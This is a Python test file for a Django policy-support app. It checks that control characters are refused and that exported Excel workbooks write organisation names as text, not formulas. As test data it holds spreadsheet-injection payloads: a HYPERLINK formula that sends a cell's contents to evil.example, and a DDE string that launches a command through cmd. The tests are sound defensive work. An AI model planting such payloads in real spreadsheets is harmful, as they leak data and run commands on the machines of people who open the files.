"""Users' text in 一企一档: control characters refused on the profile page and in the Excel import; organisation
names and other text written to the 免申即享 workbook and the profile workbook as text cells, never formulas, and
neither export fails on what is already stored."""

import io
import zipfile

import openpyxl
import pytest
from django.test import Client

from hardtech.accounts.models import Role
from hardtech.catalogue.models import Organisation
from hardtech.policies.importer import import_profiles
from hardtech.policies.models import TechContract
from support.policy_web_helpers import YEAR, workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
MESSAGE = "不能包含控制字符"
CONTRACT_HEADERS = [
    "机构名称",
    "统一社会信用代码",
    "合同登记号",
    "身份",
    "合同类型",
    "已在本区登记",
    "登记日期",
    "实际支付额（万元）",
    "对方名称",
    "对方类型",
    "对方在本区",
]


@pytest.fixture
def operator(client: Client, users) -> Client:
    client.force_login(users[Role.OPERATOR])
    return client


def _formset(prefix: str, rows: list[dict]) -> dict[str, str]:
    data = {f"{prefix}-TOTAL_FORMS": str(len(rows)), f"{prefix}-INITIAL_FORMS": "0"}
    for i, row in enumerate(rows):
        data.update({f"{prefix}-{i}-{k}": v for k, v in row.items()})
    return data


def test_profile_page_refuses_control_characters(client: Client, users, enterprise):
    client.force_login(users[Role.ENTERPRISE])
    contract = {
        "contract_no": "2025\x1b610100001",
        "role": "seller",
        "type": "license",
        "registered": "on",
        "date": "2025-05-06",
        "paid_amount": "400",
        "counterparty_name": "某\ufffe企业",
        "counterparty_kind": "enterprise",
    }
    data = {"registered_in_zone": "true", "tax_in_zone": "true", "serious_dishonesty": "false"}
    for prefix in ("years", "recognitions", "investments", "prior_awards"):
        data |= _formset(prefix, [])
    data |= _formset("contracts", [contract])
    response = client.post(f"/policy/profiles/{enterprise.pk}/edit/", data)
    assert response.status_code == 200 and response.content.decode().count(MESSAGE) == 2
    assert not TechContract.objects.exists()


def test_import_refuses_control_characters(enterprise):
    row = [
        enterprise.name,
        "",
        "2025\x9b01",
        "技术输出方",
        "技术许可",
        "是",
        "2025-05-06",
        400,
        "某\x9b企业",
        "企业",
        "否",
    ]
    report = import_profiles(workbook({"技术合同": [CONTRACT_HEADERS, row]}))
    assert {(e.sheet, e.row, e.column) for e in report.errors} == {
        ("技术合同", 2, "合同登记号"),
        ("技术合同", 2, "对方名称"),
    }
    assert all(MESSAGE in e.message for e in report.errors) and not TechContract.objects.exists()


def _no_formulas(content: bytes) -> openpyxl.Workbook:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
    return openpyxl.load_workbook(io.BytesIO(content))


def test_run_export_writes_names_as_text(operator: Client, profile, missing_profile):
    Organisation.objects.filter(pk=profile.organisation_id).update(name=HYPERLINK)
    Organisation.objects.filter(pk=missing_profile.organisation_id).update(name="@SUM(1+1)")
    response = operator.get("/policy/run/export/", {"policy": "sample", "year": YEAR})
    book = _no_formulas(response.content)
    name = book["免申即享名单"]["A2"]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    assert book["缺少数据名单"]["A2"].value == "@SUM(1+1)"
    assert book["免申即享名单"]["A2"].offset(column=3).data_type == "n"  # amounts stay numbers


def test_profile_workbook_writes_text_cells_and_reimports(operator: Client, profile):
    Organisation.objects.filter(pk=profile.organisation_id).update(name="=1+1 科技有限公司")
    TechContract.objects.filter(profile=profile).update(counterparty_name="-2+3+cmd|' /C calc'!A0")
    response = operator.get("/policy/import/template/", {"profiles": "1"})
    book = _no_formulas(response.content)
    contract = book["技术合同"][2]
    assert contract[0].value == "=1+1 科技有限公司" and contract[0].data_type == "s"
    assert contract[8].value == "-2+3+cmd|' /C calc'!A0" and contract[8].quotePrefix
    upload = io.BytesIO(response.content)
    upload.name = "profiles.xlsx"
    report = import_profiles(upload)
    assert report.ok, report.errors
    assert report.created == report.changed == 0


def test_exports_survive_stored_control_characters(operator: Client, profile):
    Organisation.objects.filter(pk=profile.organisation_id).update(name="秦创\x1b测试\x08科技有限公司")
    TechContract.objects.filter(profile=profile).update(counterparty_name="某\ufffe企业")
    run = operator.get("/policy/run/export/", {"policy": "sample", "year": YEAR})
    assert run.status_code == 200
    assert _no_formulas(run.content)["免申即享名单"]["A2"].value == "秦创测试科技有限公司"
    template = operator.get("/policy/import/template/", {"profiles": "1"})
    assert template.status_code == 200
    assert _no_formulas(template.content)["技术合同"]["I2"].value == "某企业"
